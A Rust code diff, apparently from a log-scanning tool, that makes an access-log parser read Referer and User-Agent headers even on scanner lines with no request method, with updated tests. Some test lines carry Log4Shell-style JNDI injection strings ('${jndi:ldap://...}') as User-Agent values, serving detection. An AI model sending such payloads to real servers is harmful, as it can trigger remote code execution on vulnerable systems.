@@ -10,8 +10,10 @@ use std::borrow::Cow;
 /// (borrowed from the line when it has none).
 #[derive(Debug, Default, PartialEq, Eq)]
 pub struct Request<'a> {
-    /// The request target (`/path?q`).
-    pub target: Cow<'a, [u8]>,
+    /// The request target (`/path?q`); `None` when the quoted request
+    /// line holds no method (`"-"`, a TLS handshake sent to the HTTP
+    /// port: scanners' lines, whose headers are still read).
+    pub target: Option<Cow<'a, [u8]>>,
     /// The Referer, when the line is in the combined format and names one
     /// (not `-`).
     pub referer: Option<Cow<'a, [u8]>>,
@@ -29,7 +31,8 @@ pub fn request_target(line: &[u8]) -> Option<Cow<'_, [u8]>> {
 }
 
 /// The request target and, in the combined format, the two headers of an
-/// access-log line: `None` when it has no request line with a method.
+/// access-log line: `None` when it has neither a request line with a
+/// method nor a header to read.
 ///
 /// The headers are only read when what follows the request line may hold
 /// something [`urlscope_core::headers::text_header_warnings`] finds
@@ -37,7 +40,7 @@ pub fn request_target(line: &[u8]) -> Option<Cow<'_, [u8]>> {
 /// otherwise they are `None`, as on a line of the common format.
 pub fn request(line: &[u8]) -> Option<Request<'_>> {
     let (request, after) = quoted_after(line, 0)?;
-    let target = unescape_log(target_of(request)?);
+    let target = target_of(request).map(unescape_log);
     let rest = line.get(after..).unwrap_or_default();
     let read = urlscope_core::headers::may_warn(rest) || memchr::memchr(b'\\', rest).is_some();
     let (referer, agent) = read
@@ -47,19 +50,25 @@ pub fn request(line: &[u8]) -> Option<Request<'_>> {
     fn named(field: &[u8]) -> Option<Cow<'_, [u8]>> {
         (field != b"-" && !field.is_empty()).then(|| unescape_log(field))
     }
+    let (referer, agent) = (referer.and_then(named), agent.and_then(named));
+    if target.is_none() && referer.is_none() && agent.is_none() {
+        return None;
+    }
     Some(Request {
         target,
-        referer: referer.and_then(named),
-        agent: agent.and_then(named),
+        referer,
+        agent,
     })
 }
+
+/// A line's Referer and User-Agent fields, escapes still in them.
+type Headers<'a> = (Option<&'a [u8]>, Option<&'a [u8]>);
 
 /// The combined format's Referer and User-Agent after the request line
 /// (which ends at `from`): ` STATUS SIZE "referer" "agent"`, nothing
 /// read unless the status and the size are there (a custom format's
 /// fields are not guessed at).
-#[allow(clippy::type_complexity)]
-fn headers_after(line: &[u8], from: usize) -> Option<(Option<&[u8]>, Option<&[u8]>)> {
+fn headers_after(line: &[u8], from: usize) -> Option<Headers<'_>> {
     let rest = line.get(from..)?;
     let mut words = rest.splitn(3, |&b| b == b' ');
     let (gap, status, size) = (words.next()?, words.next()?, words.next()?);
@@ -206,7 +215,7 @@ mod tests {
         assert_eq!(
             request(line),
             Some(Request {
-                target: Cow::Borrowed(b"/a"),
+                target: Some(Cow::Borrowed(b"/a")),
                 referer: Some(Cow::Borrowed(b"https://ref.example/p?q=1")),
                 agent: Some(Cow::Owned(
                     b"Mozilla/5.0 (X11) \"x\" ${jndi:ldap://e/a}".to_vec()
@@ -232,9 +241,14 @@ mod tests {
             br#"1.2.3.4 - - [x] "GET /a HTTP/1.1" 200 1 "https://r.example/{"#,
         ] {
             let r = request(line).expect("a request");
-            assert_eq!(&*r.target, b"/a");
+            assert_eq!(r.target.as_deref(), Some(&b"/a"[..]));
             assert_eq!(r.agent, None, "{}", String::from_utf8_lossy(line));
         }
+        // A line with no request still has its headers read.
+        let r = request(br#"1.2.3.4 - - [x] "-" 400 0 "-" "${jndi:ldap://e/d}""#).expect("headers");
+        assert_eq!(r.target, None);
+        assert_eq!(r.agent.as_deref(), Some(&b"${jndi:ldap://e/d}"[..]));
+        assert_eq!(request(br#"1.2.3.4 - - [x] "-" 400 0 "-" "-""#), None);
         // An unclosed referer runs to the end; no agent after it.
         let r = request(br#"1.2.3.4 - - [x] "GET /a HTTP/1.1" 200 1 "https://r.example/{"#)
             .expect("a request");
